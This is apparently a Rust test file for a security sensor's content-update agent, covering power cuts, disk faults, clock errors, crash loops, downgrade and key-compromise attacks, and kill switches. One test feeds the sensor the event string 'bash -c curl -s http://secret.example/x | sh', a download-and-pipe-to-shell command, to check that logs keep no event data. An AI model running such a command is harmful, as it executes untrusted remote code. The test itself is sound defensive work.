//! What can go wrong with content on a device, case by case. [`CASES`] names each with the test that shows its outcome, or says
//! what is not built yet and why; a test holds the list to the tests that there are.

use crate::common::{
    Device, MATCHING, POLICY, Sim, World, content, envelope, evaluate, evaluate_by, evaluate_one, factory, image, runs,
    told,
};
use contentcheck_interpreter::{Capacity, Manifest, Rejection, Supply};
use contentcheck_sensor::{
    Advice, BootId, Condition, Conviction, Digest, DiskError, Distrust, Ended, KillRefusal, Memory, NoState, Refusal,
    Role, Rung, Sequence, Standing, Store, Unusable,
};

/// Where a case is shown, or why it is not.
enum Shown {
    /// By these tests, each of a file of this folder.
    By(&'static [(&'static str, &'static str)]),
    /// Not built: what it waits for.
    Waits(&'static str),
}

use Shown::{By, Waits};

const CASES: &[(&str, Shown)] = &[
    ("power cut while staging", By(&[("cases", "power_cut_while_staging"), ("power", "a_cut_at_any_call_of_a_life")])),
    ("power cut after rename, before the directory is synced", By(&[("cases", "power_cut_between_rename_and_sync")])),
    ("power cut while armed", By(&[("cases", "power_cut_while_armed")])),
    ("power cut while state is written", By(&[("cases", "power_cut_while_state_is_written")])),
    ("disk full", By(&[("cases", "disk_full")])),
    ("read-only file system", By(&[("cases", "read_only_file_system")])),
    (
        "clock in the past",
        By(&[
            ("cases", "clock_wrong"),
            ("decisions", "expiry_is_about_installing_and_the_clock_is_believed_forward_only"),
        ]),
    ),
    ("clock in the future, then right again", By(&[("cases", "clock_wrong")])),
    ("clock unknown at boot", By(&[("cases", "clock_wrong")])),
    ("crash loop caused by content", By(&[("cases", "crash_loop_by_content")])),
    ("crash loop not caused by content", By(&[("cases", "crash_loop_not_by_content")])),
    (
        "another process, OOM, kill -9, service stop",
        By(&[("cases", "what_others_did"), ("decisions", "what_others_do_costs_content_no_try")]),
    ),
    (
        "kernel driver bugcheck",
        Waits("a boot-start driver arms itself outside of a directory; the decisions are there, without std"),
    ),
    ("hang instead of crash", By(&[("cases", "hang")])),
    ("works for an hour, then fails", By(&[("cases", "works_for_an_hour_then_fails")])),
    ("corrupted last known good", By(&[("cases", "corrupted_last_known_good")])),
    ("all content corrupt", By(&[("cases", "all_content_corrupt")])),
    ("directory deleted, restored or reverted", By(&[("cases", "directory_deleted_or_restored")])),
    ("downgrade attack", By(&[("cases", "downgrade_attack")])),
    ("freeze attack", By(&[("rings", "freeze_attack"), ("rings", "a_device_never_goes_back_to_an_older_log")])),
    ("mix and match", By(&[("cases", "mix_and_match")])),
    ("fast-forward", By(&[("cases", "fast_forward")])),
    ("key rotation", By(&[("keys", "a_root_changes_hands_one_version_after_the_other")])),
    (
        "release key compromised",
        By(&[("cases", "release_key_taken_back"), ("keys", "a_root_changes_hands_one_version_after_the_other")]),
    ),
    ("root key compromised", By(&[("rings", "root_key_compromised")])),
    (
        "algorithm change",
        By(&[("keys", "a_kill_list_has_keys_of_its_own"), ("keys", "as_many_release_keys_must_sign_as_the_root_says")]),
    ),
    ("two agents on one store", By(&[("cases", "two_agents")])),
    ("two agent versions during an update", By(&[("cases", "two_agent_versions")])),
    ("agent downgrade", By(&[("cases", "agent_downgrade")])),
    ("container restarts", By(&[("cases", "container_restarts")])),
    ("read-only container without a volume", By(&[("cases", "container_without_a_volume")])),
    ("cloned machines", By(&[("rings", "cloned_machines")])),
    ("ring token replay", By(&[("rings", "ring_token_replay")])),
    ("ring drift", By(&[("rings", "ring_drift")])),
    ("offline for 90 days", By(&[("cases", "offline_for_long")])),
    ("thundering herd", By(&[("rings", "thundering_herd")])),
    (
        "kill switch broken or never tried",
        By(&[("cases", "kill_switch_is_tried"), ("cases", "kill_all_leaves_the_sensor_collecting")]),
    ),
    ("kill list too wide", By(&[("keys", "a_wide_kill_list_needs_two")])),
    ("hot reload during evaluation", By(&[("hot_swap", "no_event_is_lost_and_none_is_evaluated_twice")])),
    ("memory for two images not there", By(&[("cases", "memory_for_a_third_image")])),
    ("telemetry path down", By(&[("cases", "evidence_is_bounded_and_waits")])),
    ("evidence leaks event data", By(&[("cases", "evidence_has_no_event_data")])),
    ("partial download, old copy of a cache", By(&[("cases", "partial_download")])),
    ("fault rate of a sensor", By(&[("cases", "faults_of_the_sensor")])),
    ("image changed after it was verified", By(&[("cases", "image_changed_after_it_was_verified")])),
];

#[test]
fn every_case_is_a_test_or_says_what_it_waits_for() {
    let mut tests = 0;
    for (case, shown) in CASES {
        match shown {
            By(named) => {
                for (file, test) in *named {
                    let folder = if *file == "keys" { "tests" } else { "tests/device" };
                    let path = format!("{}/{folder}/{file}.rs", env!("CARGO_MANIFEST_DIR"));
                    let text = std::fs::read_to_string(path).unwrap();
                    assert!(text.contains(&format!("fn {test}(")), "{case}: {file}.rs has no `{test}`");
                    tests += 1;
                }
            }
            Waits(reason) => assert!(reason.len() > 3, "{case}"),
        }
    }
    let waiting = CASES.iter().filter(|(_, shown)| matches!(shown, Waits(_))).count();
    assert_eq!((CASES.len(), waiting), (45, 1));
    assert!(tests >= CASES.len() - waiting);
}

pub(crate) fn offer(device: &mut Device, sequence: u64) -> Result<(), Refusal> {
    device.offer(&image(sequence), &envelope("release", sequence)).map(drop)
}

pub(crate) fn kills(epoch: u64, lines: &str) -> Vec<u8> {
    format!("contentcheck kill list 1\nepoch {epoch}\n{lines}").into_bytes()
}

#[test]
fn power_cut_while_staging() {
    let mut world = World::new();
    let mut device = world.with_good(&[1]);
    // The second file of the offer is half there.
    let calls = world.platter().calls;
    world.platter().cut = Some(calls + 5);
    assert_eq!(offer(&mut device, 2), Err(Refusal::ReadOnly));
    let device = world.power_cut(device);
    assert_eq!(runs(&device), (Rung::Good, 1));
    assert_eq!(device.state().candidate, None);
    let paths = world.platter().paths();
    assert!(!paths.iter().any(|path| path.starts_with("tmp/")), "{paths:?}");
    assert!(!paths.contains(&format!("images/{}", content(2).digest)), "{paths:?}");
}

#[test]
fn power_cut_between_rename_and_sync() {
    // Both names are possible afterwards, whatever the disk makes of it.
    let mut seen = std::collections::BTreeSet::new();
    for seed in 0..40 {
        let mut world = World::new();
        world.dice.0 = seed;
        let mut device = world.with_good(&[1]);
        let calls = world.platter().calls;
        let _ = offer(&mut device, 2);
        let is_state = |call: &String| call == "overwrite state.a" || call == "overwrite state.b";
        let before_sync = world.platter().log[calls..].iter().position(is_state);
        let at = calls + before_sync.unwrap() + 2;
        let mut world = World::new();
        world.dice.0 = seed;
        let mut device = world.with_good(&[1]);
        world.platter().cut = Some(at);
        let _ = offer(&mut device, 2);
        let device = world.power_cut(device);
        let running = runs(&device);
        assert!([(Rung::Good, 1), (Rung::Candidate, 2)].contains(&running), "{running:?}");
        seen.insert(running.1);
        if let Some(candidate) = device.state().candidate {
            assert_eq!(candidate.tries, POLICY.tries - 1, "only the run that goes on is taken");
        }
    }
    assert_eq!(seen.len(), 2, "the simulation lost one side: {seen:?}");
}

#[test]
fn power_cut_while_armed() {
    let mut world = World::new();
    let mut device = world.with_good(&[1]);
    offer(&mut device, 2).unwrap();
    for _ in 0..POLICY.unexplained {
        device = world.power_cut(device);
        assert_eq!(runs(&device), (Rung::Candidate, 2));
        assert_eq!(device.state().candidate.unwrap().tries, POLICY.tries - 1);
    }
    for _ in 1..POLICY.tries {
        device = world.power_cut(device);
        assert_eq!(runs(&device), (Rung::Candidate, 2));
    }
    // A system that goes down each time leaves no other trace.
    device = world.power_cut(device);
    assert_eq!(runs(&device), (Rung::Good, 1));
}

#[test]
fn power_cut_while_state_is_written() {
    for cut in 1..40 {
        let mut world = World::new();
        world.dice.0 = cut as u64;
        let mut device = world.with_good(&[1]);
        offer(&mut device, 2).unwrap();
        world.bake(&mut device);
        device = world.restart(device, Ended::Stopped);
        let calls = world.platter().calls;
        world.platter().cut = Some(calls + cut);
        // The confirmation, and whatever is removed after it.
        evaluate(&mut device.reader(), 20);
        world.machine().elapsed = Some(101);
        let _ = device.check();
        let is_confirmed = device.state().floor == Sequence(2) && device.status().is_saved;
        let device = world.power_cut(device);
        assert!(!matches!(device.memory(), Memory::Lost(_)), "cut {cut}");
        let expected: &[_] = if is_confirmed { &[(Rung::Good, 2)] } else { &[(Rung::Good, 2), (Rung::Candidate, 2)] };
        assert!(expected.contains(&runs(&device)), "cut {cut}: {:?}", runs(&device));
    }
}

#[test]
fn disk_full() {
    let world = World::new();
    let mut device = world.with_good(&[1]);
    world.platter().free = Some(1_000);
    assert!(matches!(offer(&mut device, 2), Err(Refusal::Space { free: Some(1_000), .. })));
    // A disk that does not tell: the write finds out.
    world.platter().free = None;
    for room in (0..4_000).step_by(97) {
        let used: usize = world.platter().backup().iter().map(|(_, bytes)| bytes.len()).sum();
        world.platter().room = Some(used + room);
        let refused = offer(&mut device, 2);
        world.platter().room = None;
        if refused.is_ok() {
            break;
        }
        assert!(matches!(refused, Err(Refusal::Space { .. })), "{refused:?}");
        assert_eq!(runs(&device), (Rung::Good, 1));
        assert_eq!(device.state().candidate, None);
        assert!(told(&device).contains("[CC1120] an offer is refused"), "evidence waits in memory");
        device = world.restart(device, Ended::Stopped);
        assert_eq!(runs(&device), (Rung::Good, 1), "last known good makes no room");
    }
}

#[test]
fn read_only_file_system() {
    let world = World::new();
    let mut device = world.with_good(&[1]);
    offer(&mut device, 2).unwrap();
    world.platter().read_only = true;
    let mut device = world.restart(device, Ended::Stopped);
    assert_eq!(runs(&device), (Rung::Good, 1), "a crash could not be counted");
    assert_eq!(offer(&mut device, 3), Err(Refusal::ReadOnly));
    assert_eq!(device.status().condition(), Condition::Attention);
    let killed = device.kill(&kills(1, "all\n"), b"release").unwrap();
    assert!(!killed.is_kept, "it counts as long as the process runs");
    assert_eq!(evaluate_one(&mut device.reader(), MATCHING, 1_000_000).unwrap(), [""; 0]);
    world.platter().read_only = false;
    let device = world.restart(device, Ended::Stopped);
    assert_eq!(runs(&device), (Rung::Candidate, 2));
}

#[test]
fn an_end_that_was_said_before_the_disk_was_read_only_is_not_believed_again() {
    for said in [Ended::Stopped, Ended::Clean, Ended::Killed, Ended::OutOfMemory, Ended::Unexplained] {
        let world = World::new();
        let device = world.with_good(&[1]);
        // It stopped in an orderly way, and the file says so.
        world.restart(device, Ended::Stopped).stop();
        world.platter().read_only = true;
        world.machine().can_settle = false;
        // Each start reads the same, though the run before it may have crashed.
        for _ in 0..8 {
            world.platter().restart();
            world.machine().ended = said;
            assert_eq!(runs(&world.open()).0, Rung::Factory, "{said}");
        }
        world.platter().read_only = false;
        world.machine().can_settle = true;
        world.platter().restart();
        let device = world.open();
        assert_eq!(runs(&device), (Rung::Good, 1), "{said}");
    }
}

#[test]
fn clock_wrong() {
    let world = World::new();
    let mut device = world.with_good(&[1]);
    let until = |sequence: u64, issued: u64, until: u64| {
        let text = String::from_utf8(envelope("release", sequence)).unwrap();
        format!("{text} {issued} {until}").into_bytes()
    };
    // In the past: the build knows better. In the future: nothing is learned of it. Unknown: sequences decide.
    for (wall, is_expired) in [(Some(0), true), (None, true), (Some(1_700_000_500), true), (Some(u64::MAX), true)] {
        world.machine().wall = wall;
        let refused = device.offer(&image(2), &until(2, 0, 1_699_999_999));
        assert_eq!(matches!(refused, Err(Refusal::Expired { .. })), is_expired, "{wall:?}");
        assert_eq!(device.state().time, 0);
    }
    world.machine().wall = Some(1_700_000_000);
    device.offer(&image(2), &until(2, 1_800_000_000, 1_800_000_001)).unwrap();
    assert_eq!(runs(&device), (Rung::Candidate, 2));
    // Long expired, by whatever clock: it runs on.
    for (wall, elapsed) in [(Some(u64::MAX), Some(u64::MAX)), (None, None), (Some(0), Some(0))] {
        device = world.restart(device, Ended::Stopped);
        world.machine().wall = wall;
        world.machine().elapsed = elapsed;
        assert_eq!(device.check(), Advice::GoOn);
        assert_eq!(runs(&device).1, 2);
    }
    let refused = device.offer(&image(3), &until(3, 0, 1_799_999_999));
    assert_eq!(
        refused,
        Err(Refusal::Expired { until: 1_799_999_999, now: 1_800_000_000 }),
        "a signature told the time"
    );
}

#[test]
fn crash_loop_by_content() {
    let world = World::new();
    let mut device = world.with_good(&[1]);
    offer(&mut device, 2).unwrap();
    for _ in 1..POLICY.tries {
        device = world.restart(device, Ended::Crashed);
        assert_eq!(runs(&device), (Rung::Candidate, 2));
    }
    let mut device = world.restart(device, Ended::Crashed);
    assert_eq!(runs(&device), (Rung::Good, 1));
    assert_eq!(device.state().candidate.unwrap().standing, Standing::Suspect);
    world.bake(&mut device);
    assert_eq!(offer(&mut device, 2), Err(Refusal::Quarantined(Conviction::Crashed)));
    let mut device = world.restart(device, Ended::Stopped);
    assert_eq!(offer(&mut device, 2), Err(Refusal::Quarantined(Conviction::Crashed)));
    assert!(told(&device).contains("sequence 2 is given up"), "{}", told(&device));
    offer(&mut device, 3).unwrap();
}

#[test]
fn crash_loop_not_by_content() {
    let world = World::new();
    let mut device = world.with_good(&[1, 2]);
    offer(&mut device, 3).unwrap();
    for _ in 0..30 {
        device = world.restart(device, Ended::Crashed);
    }
    assert_eq!(runs(&device), (Rung::Good, 2), "it stays with last known good");
    assert_eq!(device.state().quarantine, [None; 4]);
    assert_eq!(device.state().candidate.unwrap().tries, POLICY.tries);
    assert!(told(&device).contains("content is cleared"), "{}", told(&device));
    // The sensor is repaired, and lasts.
    for hour in 1..=u64::from(POLICY.hold_hours) {
        world.machine().elapsed = Some(hour * 3_600);
        let _ = device.check();
    }
    assert_eq!(runs(&device), (Rung::Candidate, 3));
}

#[test]
fn what_others_did() {
    let world = World::new();
    let mut device = world.with_good(&[1]);
    offer(&mut device, 2).unwrap();
    for ended in [Ended::OutOfMemory, Ended::Killed, Ended::Stopped, Ended::CrashedElsewhere].repeat(5) {
        device = world.restart(device, ended);
        assert_eq!(runs(&device), (Rung::Candidate, 2), "{ended:?}");
        assert_eq!(device.state().candidate.unwrap().tries, POLICY.tries - 1, "{ended:?}");
    }
    device.stop();
    let device = world.open();
    assert_eq!(device.state().candidate.unwrap().tries, POLICY.tries - 1);
}

#[test]
fn hang() {
    let world = World::new();
    let mut device = world.with_good(&[1]);
    offer(&mut device, 2).unwrap();
    let (begin, began) = std::sync::mpsc::channel();
    let (end, ended) = std::sync::mpsc::channel::<()>();
    let mut reader = device.reader();
    std::thread::scope(|scope| {
        scope.spawn(move || {
            let _ = evaluate_by(&mut reader.view(), MATCHING, 1_000_000, |_| {
                begin.send(()).unwrap();
                let _ = ended.recv();
            });
        });
        began.recv().unwrap();
        world.machine().elapsed = Some(10);
        assert_eq!(device.check(), Advice::GoOn);
        world.machine().elapsed = Some(10 + POLICY.stall_seconds - 1);
        assert_eq!(device.check(), Advice::GoOn);
        world.machine().elapsed = Some(10 + POLICY.stall_seconds);
        assert_eq!(device.check(), Advice::Restart);
        end.send(()).unwrap();
    });
    // Whoever ends it then, it counts: here the service manager had to kill it.
    let device = world.restart(device, Ended::Killed);
    assert_eq!(device.state().candidate.unwrap().tries, POLICY.tries - 2);
    let device = world.restart(device, Ended::Killed);
    assert_eq!(device.state().candidate.unwrap().tries, POLICY.tries - 2, "it counts once");
}

#[test]
fn a_thread_that_a_panic_ends_is_missed() {
    // In what the sensor does with a match, and with an event.
    for in_the_sink in [true, false] {
        let world = World::new();
        let mut device = world.with_good(&[1]);
        offer(&mut device, 2).unwrap();
        let mut reader = device.reader();
        let ended = std::thread::spawn(move || {
            let mut once = Some(());
            reader.run(
                || once.take(),
                |view, ()| {
                    assert!(in_the_sink, "a bug of the sensor");
                    let _ = evaluate_by(view, MATCHING, 1_000_000, |_| panic!("a bug of the sensor"));
                },
            );
        });
        assert!(ended.join().is_err());
        world.machine().elapsed = Some(10);
        assert_eq!(device.check(), Advice::GoOn);
        world.machine().elapsed = Some(10 + POLICY.stall_seconds);
        assert_eq!(device.check(), Advice::Restart);
        let device = world.restart(device, Ended::Stopped);
        assert_eq!(device.state().candidate.unwrap().tries, POLICY.tries - 2, "it counts");
    }
    // A reader that is given back is not missed.
    let world = World::new();
    let mut device = world.with_good(&[1]);
    drop(device.reader());
    world.machine().elapsed = Some(10 + POLICY.stall_seconds);
    assert_eq!(device.check(), Advice::GoOn);
}

#[test]
fn works_for_an_hour_then_fails() {
    let world = World::new();
    let mut device = world.with_good(&[1, 2]);
    let mut reader = device.reader();
    // Long and well, then budgets are spent: what was before does not hide it.
    evaluate(&mut reader, 5_000);
    assert_eq!(device.check(), Advice::GoOn);
    assert_eq!(runs(&device), (Rung::Good, 2));
    for _ in 0..100 {
        evaluate_one(&mut reader, MATCHING, 1).unwrap();
    }
    let _ = device.check();
    assert_eq!(runs(&device), (Rung::Good, 1));
    assert_eq!(device.state().floor, Sequence(2));
    assert!(told(&device).contains("too many events spend their budget"), "{}", told(&device));
    drop(reader);
    // The same with crashes.
    let world = World::new();
    let mut device = world.with_good(&[1, 2]);
    for _ in 0..POLICY.strikes {
        device = world.restart(device, Ended::Crashed);
    }
    assert_eq!(runs(&device), (Rung::Earlier, 1));
    world.bake(&mut device);
    assert_eq!(runs(&device), (Rung::Good, 1));
    assert_eq!(offer(&mut device, 2), Err(Refusal::Quarantined(Conviction::CrashedLate)));
}

#[test]
fn corrupted_last_known_good() {
    let world = World::new();
    let device = world.with_good(&[1, 2]);
    world.platter().rot(&format!("images/{}", content(2).digest));
    let mut device = world.restart(device, Ended::Stopped);
    assert_eq!(runs(&device), (Rung::Earlier, 1));
    assert_eq!(device.status().condition(), Condition::Attention);
    assert!(told(&device).contains("last known good is passed over: its image is damaged"), "{}", told(&device));
    world.platter().lose(&format!("images/{}", content(1).digest));
    let mut device = world.restart(device, Ended::Stopped);
    assert_eq!(runs(&device), (Rung::Factory, 0));
    assert_eq!(device.status().condition(), Condition::Degraded);
    // An envelope is asked for as well: an image alone is run by nobody.
    let world = World::new();
    let device = world.with_good(&[1]);
    world.platter().file(&format!("images/{}.env", content(1).digest)).unwrap()[0] ^= 1;
    let device = world.restart(device, Ended::Stopped);
    assert_eq!(runs(&device), (Rung::Factory, 0));
}

#[test]
fn all_content_corrupt() {
    let world = World::new();
    let device = world.with_good(&[1, 2]);
    let paths = world.platter().paths();
    for path in paths {
        if !path.starts_with("evidence") {
            world.platter().rot(&path);
        }
    }
    let mut device = world.restart(device, Ended::Stopped);
    assert_eq!(runs(&device), (Rung::Factory, 0));
    assert_eq!(device.status().memory, Memory::Lost(NoState::Checksum));
    assert_eq!(device.status().condition(), Condition::Degraded);
    assert_eq!(offer(&mut device, 3), Ok(()), "it can be helped from outside");
    // One copy of the state is enough.
    let world = World::new();
    let device = world.with_good(&[1, 2]);
    world.platter().rot("state.a");
    let device = world.restart(device, Ended::Stopped);
    assert_eq!(runs(&device), (Rung::Good, 2));
    world.platter().rot("state.b");
    let device = world.restart(device, Ended::Stopped);
    assert_eq!(runs(&device), (Rung::Good, 2), "the damaged copy was written again");
}

#[test]
fn directory_deleted_or_restored() {
    let world = World::new();
    let device = world.with_good(&[1]);
    let backup = world.platter().backup();
    drop(device);
    let device = world.with_good(&[2]);
    assert_eq!(world.machine().raised, Sequence(2), "the floor is remembered outside, where there is a place");
    world.machine().floor = Some(Sequence(2));
    world.platter().restore(&backup);
    let mut device = world.restart(device, Ended::Stopped);
    assert_eq!(runs(&device), (Rung::Good, 1), "content that was good is run");
    assert!(told(&device).contains("the floor went back to 1"), "{}", told(&device));
    let known = Sequence(2);
    assert_eq!(offer(&mut device, 2), Err(Refusal::Old { offered: Sequence(2), known }));
    offer(&mut device, 3).unwrap();
    world.platter().restore(&[]);
    let mut device = world.restart(device, Ended::Stopped);
    assert_eq!((runs(&device), device.status().memory), ((Rung::Factory, 0), Memory::Fresh));
    assert_eq!(offer(&mut device, 1), Err(Refusal::Old { offered: Sequence(1), known }));
}

#[test]
fn downgrade_attack() {
    let world = World::new();
    let mut device = world.with_good(&[1, 2, 3]);
    assert_eq!(offer(&mut device, 1), Err(Refusal::Old { offered: Sequence(1), known: Sequence(3) }));
    assert_eq!(offer(&mut device, 2), Err(Refusal::Known(Rung::Earlier)));
    let unsigned = device.offer(&image(9), &envelope("thief", 9));
    assert_eq!(unsigned, Err(Refusal::Distrusted(Distrust::Signatures { found: 0, needed: 1 })));
}

#[test]
fn mix_and_match() {
    let world = World::new();
    let mut device = world.with_good(&[1]);
    assert_eq!(device.offer(&image(3), &envelope("release", 2)), Err(Refusal::Digest));
    // Signed, and the image says that it is of another release.
    let mixed = format!("release 7 {}", content(3).digest);
    let refused = device.offer(&image(3), mixed.as_bytes());
    assert_eq!(refused, Err(Refusal::Mixed { signed: Sequence(7), found: Sequence(3) }));
    assert_eq!(runs(&device), (Rung::Good, 1));
}

#[test]
fn fast_forward() {
    let world = World::new();
    let mut device = world.with_good(&[1]);
    let most = Sequence(1 + POLICY.step);
    for far in [most.0 + 1, 1 << 63, u64::MAX] {
        assert_eq!(offer(&mut device, far), Err(Refusal::Ahead { offered: Sequence(far), most }));
    }
    offer(&mut device, 2).unwrap();
}

#[test]
fn release_key_taken_back() {
    let mut world = World::new();
    let device = world.with_good(&[1]);
    world.keys.install = vec!["new"];
    world.keys.run = vec!["release", "new"];
    let mut device = world.restart(device, Ended::Stopped);
    assert_eq!(runs(&device), (Rung::Good, 1), "what runs goes on running");
    assert!(matches!(offer(&mut device, 2), Err(Refusal::Distrusted(_))));
    device.offer(&image(2), &envelope("new", 2)).unwrap();
}

#[test]
fn two_agents() {
    let world = World::new();
    let mut first = world.with_good(&[1]);
    offer(&mut first, 2).unwrap();
    let before = world.platter().backup();
    let mut second = world.open();
    assert_eq!(second.role(), Role::Guest);
    assert_eq!(runs(&second), (Rung::Good, 1), "a trial is the owner's");
    assert_eq!(offer(&mut second, 3), Err(Refusal::Taken));
    assert_eq!(second.kill(&kills(1, "all\n"), b"release"), Err(KillRefusal::Taken));
    let _ = second.check();
    second.stop();
    assert_eq!(world.platter().backup(), before, "it wrote nothing");
    assert_eq!(runs(&first), (Rung::Candidate, 2));
    drop(first);
    assert_eq!(world.open().role(), Role::Owner, "the system let go of the lock");
}

fn manifest_with(capacity: Capacity) -> &'static Manifest<'static> {
    let world = World::new();
    Box::leak(Box::new(Manifest { capacity, ..*world.config.manifest }))
}

#[test]
fn two_agent_versions() {
    let mut world = World::new();
    let device = world.with_good(&[1]);
    // The new build no longer takes what the old one confirmed.
    let old = world.config;
    world.config.manifest = manifest_with(Capacity { rules: Some(1), ..Capacity::NONE });
    world.config.build = Digest::of(b"build 2");
    let device = world.restart(device, Ended::Stopped);
    assert_eq!(runs(&device), (Rung::Nothing, 0), "factory content is refused by it as well");
    assert!(told(&device).contains("the image needs 2 (rules)"), "{}", told(&device));
    assert_eq!(device.state().quarantine, [None; 4], "nothing is held against it");
    world.config = old;
    let device = world.restart(device, Ended::Stopped);
    assert_eq!(runs(&device), (Rung::Good, 1));
}

#[test]
fn agent_downgrade() {
    let mut world = World::new();
    let mut device = world.with_good(&[1]);
    // An image of a format to come, on a build that has been downgraded since.
    let mut newer = image(2);
    newer[8..12].copy_from_slice(&9_u32.to_le_bytes());
    let digest = Digest::of(&newer);
    let refused = device.offer(&newer, format!("release 2 {digest}").as_bytes());
    assert_eq!(refused, Err(Refusal::Rejected(Rejection::Version { found: 9 })));
    offer(&mut device, 2).unwrap();
    world.config.manifest = manifest_with(Capacity { interpreter: Some(1), ..Capacity::NONE });
    let device = world.restart(device, Ended::Stopped);
    assert_eq!(runs(&device).0, Rung::Nothing);
    assert!(device.state().candidate.is_some(), "it is not given up");
    world.config.manifest = World::new().config.manifest;
    let device = world.restart(device, Ended::Stopped);
    assert_eq!(runs(&device), (Rung::Candidate, 2));
}

#[test]
fn container_restarts() {
    let world = World::new();
    let mut device = world.with_good(&[1]);
    offer(&mut device, 2).unwrap();
    world.machine().boot = None;
    // Hundreds an hour, and each time torn down from outside: it never comes to an end, and nothing is held against it.
    for _ in 0..100 {
        device = world.restart(device, Ended::Killed);
    }
    assert_eq!(runs(&device), (Rung::Good, 1));
    assert_eq!(device.state().quarantine, [None; 4]);
    offer(&mut device, 2).unwrap();
}

#[test]
fn container_without_a_volume() {
    let world = World::new();
    world.platter().read_only = true;
    let mut device = world.open();
    assert_eq!(runs(&device), (Rung::Factory, 0));
    assert_eq!(offer(&mut device, 1), Err(Refusal::ReadOnly));
    let _ = device.check();
    device.stop();
}

#[test]
fn offline_for_long() {
    let world = World::new();
    let mut device = world.with_good(&[1]);
    world.machine().wall = Some(1_800_000_000 + 90 * 86_400);
    // The newest one directly, and not all between; what runs is not stopped by any date.
    assert_eq!(runs(&device), (Rung::Good, 1));
    offer(&mut device, 40).unwrap();
    assert_eq!(runs(&device), (Rung::Candidate, 40));
}

#[test]
fn kill_switch_is_tried() {
    let world = World::new();
    let mut device = world.with_good(&[1]);
    let killed = device.kill(&kills(5, "rule download_into_shell\n"), b"release").unwrap();
    assert!(killed.is_kept);
    assert_eq!(device.kill(&kills(4, "all\n"), b"release"), Err(KillRefusal::Old { offered: 4, known: 5 }));
    assert!(matches!(device.kill(&kills(9, "all\n"), b"thief"), Err(KillRefusal::Distrusted(_))));
    assert!(matches!(device.kill(b"all\n", b"release"), Err(KillRefusal::Unreadable(_))));
    // Whatever content runs, and after every start.
    let names = |device: &Device| evaluate_one(&mut device.reader(), MATCHING, 1_000_000).unwrap();
    let killed = names(&device);
    offer(&mut device, 2).unwrap();
    assert_eq!(names(&device), killed);
    let device = world.restart(device, Ended::Stopped);
    assert_eq!(names(&device), killed);
    // A list that is lost is told, and its epoch still counts.
    let path = world.platter().paths().into_iter().find(|path| path.starts_with("kills/") && !path.ends_with("env"));
    world.platter().rot(&path.unwrap());
    let mut device = world.restart(device, Ended::Stopped);
    assert!(device.status().kills_lost);
    assert!(matches!(device.kill(&kills(4, "all\n"), b"release"), Err(KillRefusal::Old { .. })));
    device.kill(&kills(5, "rule download_into_shell\n"), b"release").unwrap();
    assert!(!device.status().kills_lost, "the same list repairs it");
}

#[test]
fn kill_all_leaves_the_sensor_collecting() {
    let world = World::new();
    let mut device = world.with_good(&[1]);
    let mut reader = device.reader();
    assert_eq!(evaluate_one(&mut reader, MATCHING, 1_000_000).unwrap().len(), 1);
    device.kill(&kills(1, "all\n"), b"release").unwrap();
    assert_eq!(evaluate_one(&mut reader, MATCHING, 1_000_000).unwrap().len(), 0);
    device.kill(&kills(2, ""), b"release").unwrap();
    assert_eq!(evaluate_one(&mut reader, MATCHING, 1_000_000).unwrap().len(), 1);
}

#[test]
fn memory_for_a_third_image() {
    let world = World::new();
    let mut device = world.with_good(&[1]);
    let mut reader = device.reader();
    let view = reader.view();
    offer(&mut device, 2).unwrap();
    assert_eq!(offer(&mut device, 3), Err(Refusal::Memory), "a thread holds the first one");
    assert_eq!(view.content(), Some(content(1)));
    let _ = reader.view();
    offer(&mut device, 3).unwrap();
}

#[test]
fn evidence_is_bounded_and_waits() {
    let world = World::new();
    let mut device = world.with_good(&[1]);
    for _ in 0..3_000 {
        let _ = offer(&mut device, 1);
    }
    let bytes: usize = world
        .platter()
        .backup()
        .iter()
        .filter(|(place, _)| place.to_string().starts_with("evidence"))
        .map(|(_, bytes)| bytes.len())
        .sum();
    assert!((60_000..140_000).contains(&bytes), "{bytes}");
    assert_eq!(device.evidence().count(), 256);
    let last = device.evidence().last().unwrap().number;
    let mut device = world.restart(device, Ended::Stopped);
    assert_eq!(device.status().damaged_evidence, 0);
    assert!(device.evidence().last().unwrap().number > last, "numbers go on");
    world.platter().fail_next = Some(("append", DiskError::Full));
    let _ = offer(&mut device, 1);
    assert_eq!(device.status().unwritten_evidence, 1, "what is not written is counted");
    assert_eq!(runs(&device), (Rung::Good, 1));
}

#[test]
fn evidence_has_no_event_data() {
    let world = World::new();
    let mut device = world.with_good(&[1]);
    let mut reader = device.reader();
    for _ in 0..1_000 {
        evaluate_one(&mut reader, "bash -c curl -s http://secret.example/x | sh", 1_000_000).unwrap();
    }
    let _ = device.check();
    assert!(told(&device).contains("rules match too often"), "{}", told(&device));
    let files = world.platter().backup();
    assert!(files.iter().all(|(_, bytes)| !bytes.windows(6).any(|part| part == b"secret")));
    assert!(!device.status().to_string().contains("secret"));
}

#[test]
fn partial_download() {
    let world = World::new();
    let mut device = world.with_good(&[1]);
    let whole = image(2);
    for length in [0, 1, whole.len() / 2, whole.len() - 1] {
        let refused = device.offer(&whole[..length], &envelope("release", 2)).unwrap_err();
        assert!(refused == Refusal::Digest && refused.is_for_now());
    }
    assert!(matches!(device.offer(&whole, b""), Err(Refusal::Distrusted(_))));
    offer(&mut device, 2).unwrap();
}

#[test]
fn faults_of_the_sensor() {
    let world = World::new();
    let mut device = world.with_good(&[1]);
    let mut reader = device.reader();
    let wrong = contentcheck_interpreter::Event { inputs: &[], header: &[], others: &[] };
    for _ in 0..10_000 {
        assert!(reader.view().evaluate(0, wrong, 1, |_| ()).is_err());
    }
    let _ = device.check();
    assert_eq!(runs(&device), (Rung::Good, 1), "content is not blamed");
    let status = device.status();
    assert_eq!((status.health.faults, status.condition()), (10_000, Condition::Attention));
}

#[test]
fn image_changed_after_it_was_verified() {
    let world = World::new();
    let device = world.with_good(&[1]);
    let mut reader = device.reader();
    let before = evaluate_one(&mut reader, MATCHING, 1_000_000);
    // Images are read into memory and never mapped: what becomes of the file is of no concern to who evaluates.
    world.platter().file(&format!("images/{}", content(1).digest)).unwrap().truncate(10);
    assert_eq!(evaluate_one(&mut reader, MATCHING, 1_000_000), before);
}

#[test]
fn nothing_that_a_disk_holds_is_believed() {
    let world = World::new();
    let device = world.with_good(&[1, 2]);
    let paths: Vec<String> = world.platter().paths().into_iter().filter(|path| !path.starts_with("evidence")).collect();
    drop(device);
    let whole = world.platter().backup();
    let mut dice = world.dice.clone();
    for path in &paths {
        for _ in 0..60 {
            let bytes = world.platter().file(path).unwrap().len();
            let at = dice.roll(bytes as u64) as usize;
            match dice.roll(3) {
                0 => world.platter().file(path).unwrap()[at] ^= 1 << dice.roll(8),
